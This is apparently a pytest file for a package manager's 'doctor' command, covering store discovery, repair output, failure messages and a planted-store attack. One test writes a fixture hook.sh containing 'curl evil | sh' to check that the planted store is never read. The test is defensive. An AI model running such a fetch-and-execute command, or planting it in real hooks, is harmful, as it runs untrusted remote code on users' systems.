"""cli.doctor_cmds: which scopes `doctor` looks at (global, and every workspace store the global
state records), what it prints after repairing, and how a failure reads.
tests/store/test_recovery.py covers the checks and repairs themselves."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.cli.helpers import FIXTURES, fail, human, install, tree
from tests.support.stores import store_root


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    path = tmp_path / "user-home" / "ws"
    path.mkdir(parents=True)
    return path


def test_repairs_are_listed_before_the_verdict(home: Path) -> None:
    install(FIXTURES / "review-pack")
    (home / ".staging" / "tx-crashed").mkdir(parents=True)
    assert human("doctor").stdout == ("repaired (global): removed .staging/tx-crashed\n"
                                      f"all invariants hold: global ({home})\n")
    assert human("doctor").stdout == f"all invariants hold: global ({home})\n"


def test_a_workspace_store_is_checked_and_repaired_too(home: Path, ws: Path) -> None:
    install(FIXTURES / "review-pack", extra=("--scope", "workspace", "--workspace", str(ws)))
    store = store_root(ws)
    (store / ".staging" / "tx-crashed").mkdir(parents=True)
    document = fail("state_inconsistent", "doctor", "--check", "--workspace", ws)
    assert document["scopes"] == [{"scope": "global", "root": str(home)},
                                  {"scope": "workspace", "root": str(store), "workspace": str(ws)}]
    assert [(p["scope"], p["check"]) for p in document["problems"]] == [("workspace", "leftover")]
    result = human("doctor", cwd=ws)  # discovered from the current directory
    assert result.stdout.splitlines() == [
        "repaired (workspace): removed .staging/tx-crashed",
        f"all invariants hold: global ({home}), workspace ({store})"]


def test_every_recorded_workspace_store_is_checked_from_anywhere(home: Path, tmp_path: Path) -> None:
    """doctor --check walks the stores the global state records whose workspace still exists."""
    first, second, gone = (tmp_path / "user-home" / name for name in ("first", "second", "gone"))
    for ws in (first, second, gone):
        ws.mkdir(parents=True)
        install(FIXTURES / "review-pack", extra=("--scope", "workspace", "--workspace", str(ws)))
    gone.rmdir()  # the workspace is deleted; its store stays behind, unchecked
    (store_root(second) / "extensions" / "review-pack" / "0.1.0" / "README.md").write_text("tampered\n")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    result = human("doctor", "--check", cwd=elsewhere, code=4)
    assert f"workspace {second}: review-pack 0.1.0: tree checksum differs" in result.stderr
    assert str(first) not in result.stderr
    document = fail("state_inconsistent", "doctor", "--check", cwd=elsewhere)
    assert [s.get("workspace") for s in document["scopes"]] == [None, str(first), str(second)]  # not the gone one


@pytest.mark.parametrize("args", [["doctor", "--check"], ["doctor"]])
def test_a_store_committed_to_the_work_tree_is_never_opened(args: list[str], home: Path, ws: Path) -> None:
    """The attack of issue 13: a pulled commit tracks `.pkgmgr/` (a state.db, a tree at a
    predictable path); nothing pkgmgr believes changes, and doctor says how to delete it."""
    install(FIXTURES / "review-pack", extra=("--scope", "workspace", "--workspace", str(ws)))
    planted = ws / ".pkgmgr"
    (planted / "extensions" / "review-pack" / "0.1.0").mkdir(parents=True)
    (planted / "extensions" / "review-pack" / "0.1.0" / "hook.sh").write_text("curl evil | sh\n")
    (planted / "state.db").write_bytes(b"SQLite format 3\x00 but not really")
    before = tree(planted), tree(store_root(ws))
    result = human(*args, "--workspace", ws)
    assert result.stdout.splitlines()[0] == (f"note: {planted} was left by an earlier pkgmgr and is ignored "
                                             f"(nothing in it is read); delete it with: rm -rf '{planted}'")
    assert (tree(planted), tree(store_root(ws))) == before  # neither opened, migrated nor repaired


def test_a_failure_lists_each_problem_with_its_scope(home: Path) -> None:
    install(FIXTURES / "review-pack")
    (home / "extensions" / "review-pack" / "0.1.0" / "README.md").write_text("tampered\n")
    result = human("doctor", code=4)
    assert result.stdout == ""  # no "all invariants hold"
    lines = result.stderr.splitlines()
    assert lines[0] == "error[state_inconsistent]: 1 invariant(s) do not hold:"
    assert lines[1].startswith("  global: review-pack 0.1.0")
    # doctor cannot repair a modified tree: the hint is the reinstall, not doctor again
    reinstall = f"pkgmgr ext install {FIXTURES / 'review-pack'} --force --allow-unverified"
    assert [line for line in lines if line.startswith("hint:")] == [f"hint: review-pack: reinstall it with '{reinstall}'"]


def test_a_workspace_option_that_is_not_a_directory(home: Path, tmp_path: Path) -> None:
    fail("not_found", "doctor", "--workspace", tmp_path / "nowhere")
    assert not home.exists()
